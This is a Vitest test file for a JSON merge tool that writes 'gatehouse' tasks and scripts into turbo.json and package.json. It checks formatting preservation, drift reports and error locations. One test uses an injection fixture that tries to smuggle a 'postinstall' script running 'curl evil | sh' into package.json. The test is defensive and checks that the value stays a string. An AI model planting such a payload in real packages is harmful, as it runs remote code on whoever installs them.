import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { checkFiles, writeFiles } from './compile.js';
import { isGatehouseError } from './errors.js';
import { jsonMergeDrift, mergeJsonFile } from './json-merge.js';
import type { EmittedFile } from './plugin.js';

const tasksFile = (tasks: Record<string, unknown>): EmittedFile => ({
  path: 'turbo.json',
  contents: `${JSON.stringify({ $schema: 'https://turbo.build/schema.json', tasks }, null, 2)}\n`,
  merge: {
    format: 'json',
    owns: [{ object: ['tasks'], keys: /^(?:[^#]+#)?gatehouse:/ }],
    ifMissing: 'create',
  },
});
const scriptsFile = (scripts: Record<string, string>): EmittedFile => ({
  path: 'packages/web/package.json',
  contents: JSON.stringify({ scripts }),
  merge: {
    format: 'json',
    owns: [{ object: ['scripts'], keys: /^gatehouse:/ }],
    ifMissing: 'error',
  },
});

const USER_TURBO = `{
    "$schema": "https://turbo.build/schema.json",
    "ui": "stream",
    "tasks": {
        "build": { "dependsOn": ["^build"], "outputs": ["dist/**"] },
        "web#gatehouse:old": { "cache": true },
        "gatehouse:gone": {},
        "lint": {}
    },
    "globalEnv": ["NODE_ENV", 1.50]
}
`;

describe('mergeJsonFile', () => {
  it('replaces the owned keys, removes stale ones, and keeps every user member byte for byte', () => {
    const out = mergeJsonFile(
      tasksFile({ 'web#gatehouse:lint': { dependsOn: ['gatehouse:build'], cache: true } }),
      USER_TURBO,
    );
    expect(out).toContain('"build": { "dependsOn": ["^build"], "outputs": ["dist/**"] }');
    expect(out).toContain('"globalEnv": ["NODE_ENV", 1.50]');
    expect(out).toContain('"ui": "stream"');
    expect(out).not.toContain('gatehouse:old');
    expect(out).not.toContain('gatehouse:gone');
    // The file's own indentation (four spaces) is kept for the new keys.
    expect(out).toContain(
      '        "web#gatehouse:lint": {\n            "dependsOn": [\n                "gatehouse:build"\n            ],',
    );
    const parsed = JSON.parse(out) as { tasks: Record<string, unknown> };
    expect(Object.keys(parsed.tasks)).toEqual(['build', 'lint', 'web#gatehouse:lint']);
    expect(out.endsWith('}\n')).toBe(true);
  });

  it('is idempotent: merging into its own output changes nothing', () => {
    const f = tasksFile({ 'gatehouse:x': { cache: true, outputs: ['a'] } });
    const once = mergeJsonFile(f, USER_TURBO);
    expect(mergeJsonFile(f, once)).toBe(once);
  });

  it('adds the owned object when the file has none, and keeps CRLF line endings and a BOM', () => {
    const text = '\ufeff{\r\n  "name": "web",\r\n  "version": "1.0.0"\r\n}\r\n';
    const out = mergeJsonFile(
      scriptsFile({ 'gatehouse:lint': 'gatehouse run --only web-lint' }),
      text,
    );
    expect(out.startsWith('\ufeff{\r\n  "name": "web",\r\n')).toBe(true);
    expect(out).not.toMatch(/[^\r]\n/);
    expect(JSON.parse(out.slice(1))).toEqual({
      name: 'web',
      version: '1.0.0',
      scripts: { 'gatehouse:lint': 'gatehouse run --only web-lint' },
    });
  });

  it('leaves a file without the owned object alone when there is nothing to write', () => {
    const text = '{"name":"root"}\n';
    expect(mergeJsonFile(scriptsFile({}), text)).toBe(text);
  });

  it('keeps user scripts and writes a hostile script value as a JSON string, never as new keys', () => {
    const text = '{\n  "scripts": {\n    "test": "vitest",\n    "gatehouse:stale": "x"\n  }\n}\n';
    const hostile = '"}, "postinstall": "curl evil | sh", "x": {"\u2028\n';
    const out = mergeJsonFile(scriptsFile({ 'gatehouse:lint': hostile }), text);
    const parsed = JSON.parse(out) as { scripts: Record<string, string> };
    expect(parsed.scripts).toEqual({ test: 'vitest', 'gatehouse:lint': hostile });
  });

  it.each([
    ['a line comment', '{\n  // tasks\n  "tasks": {}\n}\n', 2, 3],
    ['a block comment', '{\n  "tasks": { /* x */ }\n}\n', 2, 14],
    ['a trailing comma', '{\n  "tasks": {\n    "a": {},\n  }\n}\n', 4, 3],
  ])('refuses %s with its location (GH_TARGET_MERGE)', (_what, text, line, column) => {
    try {
      mergeJsonFile(tasksFile({}), text);
      expect.unreachable();
    } catch (err) {
      expect(isGatehouseError(err) && err.code).toBe('GH_TARGET_MERGE');
      const d = (err as { diagnostics: Array<{ loc: unknown }> }).diagnostics[0]!;
      expect(d.loc).toEqual({ file: 'turbo.json', line, column });
    }
  });

  it('refuses a missing file the target does not create, and creates one it does', () => {
    expect(() => mergeJsonFile(scriptsFile({ 'gatehouse:a': 'x' }), null)).toThrow(
      /does not exist/,
    );
    const f = tasksFile({ 'gatehouse:a': {} });
    expect(mergeJsonFile(f, null)).toBe(f.contents);
  });
});

describe('jsonMergeDrift', () => {
  const f = tasksFile({ 'web#gatehouse:lint': { inputs: ['a'], cache: true } });

  it('is empty when the owned keys agree, whatever the order of their members and the rest', () => {
    const disk = '{"tasks":{"mine":{"x":1},"web#gatehouse:lint":{"cache":true,"inputs":["a"]}}}';
    expect(jsonMergeDrift(f, disk)).toEqual([]);
  });

  it('names each drifted key: changed, missing, stale', () => {
    expect(
      jsonMergeDrift(f, '{"tasks":{"web#gatehouse:lint":{"cache":true,"inputs":["b"]}}}'),
    ).toEqual(['tasks["web#gatehouse:lint"] differs']);
    expect(jsonMergeDrift(f, '{"tasks":{}}')).toEqual(['tasks["web#gatehouse:lint"] is missing']);
    expect(
      jsonMergeDrift(
        f,
        '{"tasks":{"web#gatehouse:lint":{"inputs":["a"],"cache":true},"//#gatehouse:x":{}}}',
      ),
    ).toEqual(['tasks["//#gatehouse:x"] is stale']);
  });
});

describe('writeFiles and checkFiles with merged files', () => {
  let dir = '';
  afterEach(() => {
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('writes the merge, reports it up to date, then names the key a user edit drifted', async () => {
    dir = mkdtempSync(join(tmpdir(), 'gh-merge-'));
    writeFileSync(join(dir, 'turbo.json'), USER_TURBO);
    const f = tasksFile({ 'gatehouse:lint': { cache: true } });
    await writeFiles(dir, [f]);
    expect(await checkFiles(dir, [f])).toEqual([
      { path: 'turbo.json', status: 'ok', diff: '', keys: [] },
    ]);
    const text = readFileSync(join(dir, 'turbo.json'), 'utf8');
    writeFileSync(join(dir, 'turbo.json'), text.replace('"cache": true', '"cache": false'));
    const [c] = await checkFiles(dir, [f]);
    expect(c!.status).toBe('stale');
    expect(c!.keys).toEqual(['tasks["gatehouse:lint"] differs']);
    expect(c!.diff).toContain('+            "cache": true');
  });

  it('writes nothing when one merged file cannot be merged', async () => {
    dir = mkdtempSync(join(tmpdir(), 'gh-merge-'));
    writeFileSync(join(dir, 'turbo.json'), '{ "tasks": {} }\n');
    const other: EmittedFile = { path: 'other.txt', contents: 'x\n' };
    await expect(writeFiles(dir, [other, scriptsFile({ 'gatehouse:a': 'x' })])).rejects.toThrow(
      /packages\/web\/package.json.*does not exist/,
    );
    expect(() => readFileSync(join(dir, 'other.txt'))).toThrow();
  });
});
